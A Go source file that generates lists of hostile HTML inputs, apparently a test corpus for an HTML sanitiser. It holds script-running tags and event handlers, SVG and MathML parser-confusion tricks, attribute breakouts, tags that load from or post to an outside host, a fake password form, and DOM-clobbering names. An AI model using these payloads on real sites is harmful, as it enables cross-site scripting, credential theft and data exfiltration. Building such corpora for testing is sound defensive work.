package hostile

import (
	"slices"
	"strings"
)

// elements want to be one: those that run something by themselves, load something,
// or change how the rest of the page is read.
func elements() []string {
	list := each("<%s src=x href=x autofocus tabindex=1 onload="+js+" onerror="+js+" onfocus="+js+" ontoggle="+js+">",
		"a", "audio", "body", "button", "details open", "form", "frameset", "iframe", "img", "input", "object data=x", "select", "svg", "textarea", "x-unknown")
	// The ways in which a tag may be written and is one all the same (HTML 13.2.5), or
	// is one only for who repairs it.
	list = append(list, each("<%s"+js+"</script>", "script>", "ScRiPt>", "script/>", "script\n>", "script\f>", `script x=">">`, "script type=module>",
		"script nonce=x>", "scr\x00ipt>", "<script>", "scr<script>ipt>")...)
	list = append(list, each("<img%sonerror="+js+">", "/src=x/", "\nsrc=x\n", ` src="x"`, " src=`x`", " srcset=x ")...)
	return append(list, "<b>bold</b>", "<h1>PortVigil</h1>", "<a href=/sign-out>Sign in again</a>", "</div></div><div>", "</", "<!", "<script", "<img src=x onerror="+js,
		"</script>"+script, "<li><li>", "<table><tr><td>", "<button type=submit form=remove>Remove it</button>", "<dialog open>Your session is over</dialog>",
		"<input name=why value=fine>", "<template>"+script+"</template>", "<noscript>"+image+"</noscript>", "<plaintext>", "<xmp>")
}

// foreign want to be elements by way of SVG and MathML, whose content is parsed
// otherwise than HTML's, and of the elements that lead back: what a sanitiser reads as
// the text of a style is markup to a browser.
func foreign() []string {
	var list []string
	for _, in := range []string{"svg", "math", "svg><foreignObject", "math><annotation-xml encoding=text/html", "math><mtext><table><mglyph"} {
		for _, raw := range []string{"style", "title"} {
			list = append(list, "<"+in+"><"+raw+`><a title="</`+raw+">"+image+`">`)
		}
	}
	return append(list, "<svg><script>"+js+"</script></svg>", "<svg><script href=data:,"+js+" /></svg>", "<svg><animate onbegin="+js+" attributeName=x dur=1s>",
		"<svg><image href=x onerror="+js+">", "<svg><a><animate attributeName=href values=javascript:"+js+" /><text y=9>x</text></a></svg>",
		"<svg><style>*{background:url("+elsewhere+")}</style></svg>", "<math href=javascript:"+js+">x</math>", "<svg><![CDATA[>"+image+"]]></svg>",
		"<math><![CDATA[</math>"+image+"]]>", "<svg></p>"+image, "<math></br>"+image)
}

// attributes want to leave the value that they stand in, by each kind of quote and
// without any, and to add a handler.
func attributes() []string {
	var list []string
	for _, out := range []string{`" %s x="`, `' %s x='`, " %s ", "` %s x=`", `"%s "`} {
		for _, event := range []string{"onfocus", "onmouseover", "onerror", "onanimationstart"} {
			list = append(list, strings.ReplaceAll(out, "%s", event+"="+js+" autofocus tabindex=1"))
		}
	}
	return append(list, `">`+image, `'>`+image, ">"+image, `"/>`+image, "\n>"+image, "\t\">"+image, `\">`+image, `\\">`+image, `&quot;>`+image,
		`" style="position:fixed;inset:0" x="`, `" hidden x="`, `" class="ended`, `" id="content`, `" name="csrf`, `" href="`+elsewhere, `" formaction="`+elsewhere,
		`" srcdoc="<script>parent.`+js+`</script>`, `" data-live data-item data-key="e`, `" popover autofocus x="`, `"`, `'`, `""`, "\"'`<>&=")
}

// endings want to end what they stand in and to begin anew, or to begin what does not
// end.
func endings() []string {
	list := each("%s"+image, "-->", "--!>", "<!-->", "]]>", "?>", "%>", "*/", "</script>", "</script/x>", "</style>", "</textarea>", "</title>", "</noscript>", "</template>",
		"</select>", "</svg>", "</math>", "</a>", "</code></pre>", "</form>", "</body></html>")
	return append(list, "<!--", "<!-- -- -->"+image, "<!--><script>"+js+"//-->", "<![CDATA[", "<!DOCTYPE html SYSTEM x>", "<style>", "<title>", "<textarea>", "<script>", "<iframe>",
		`<a title="`, "<a title='", "</title></head><body onload="+js+">")
}

// loading want to have something loaded, sent or opened elsewhere.
func loading() []string {
	return []string{"<base href=" + elsewhere + "/>", "<base target=_blank>", "<meta http-equiv=refresh content=0;url=" + elsewhere + ">",
		"<meta http-equiv=refresh content=0;url=javascript:" + js + ">", `<meta http-equiv=Content-Security-Policy content="script-src *">`, "<meta charset=utf-7>",
		"<link rel=stylesheet href=" + elsewhere + ">", "<link rel=preload as=script href=" + elsewhere + ">", "<link rel=prefetch href=" + elsewhere + ">", "<link rel=preconnect href=" + elsewhere + ">",
		"<script src=" + elsewhere + "></script>", `<script type=importmap>{"imports":{"x":"` + elsewhere + `"}}</script>`, "<img src=" + elsewhere + ">", "<img srcset=" + elsewhere + ">",
		"<video poster=" + elsewhere + ">", "<object data=" + elsewhere + "></object>", "<embed src=" + elsewhere + ">", "<iframe src=" + elsewhere + "></iframe>",
		`<iframe srcdoc="<script>parent.` + js + `</script>"></iframe>`, "<iframe src=javascript:parent." + js + "></iframe>",
		"<form action=" + elsewhere + "><input name=password autofocus><button>Sign in</button>", "<button form=act formaction=" + elsewhere + ">Go</button>",
		"<input type=submit formaction=javascript:" + js + ">", "<a href=/ ping=" + elsewhere + ">Overview</a>", "<a href=" + elsewhere + " target=_top>Overview</a>",
		"<svg><image href=" + elsewhere + " /></svg>", "<div style=background:url(" + elsewhere + ")>", "<style>@import '" + elsewhere + "';</style>"}
}

// clobbering are names that scripts look up in a document, alone and as the name of an
// element, which would then be found instead (HTML 7.2.2.3 and 3.1.5). Most may be the
// name of a host as well, and have to work as such.
func clobbering() []string {
	names := []string{"location", "cookie", "csrf", "document", "top", "parent", "body", "forms", "attributes", "elements", "length", "action", "method", "submit", "dataset",
		"constructor", "prototype", "toString", "__proto__", "innerHTML", "querySelectorAll", "keys", "live", "content", "null", "undefined"}
	list := slices.Clone(names)
	for i, name := range names[:8] {
		form := []string{"<img name=%s>", "<form id=%s><input name=dataset></form>", "<a id=%s href=" + elsewhere + ">", `" id="%s`}[i%4]
		list = append(list, strings.ReplaceAll(form, "%s", name))
	}
	return list
}
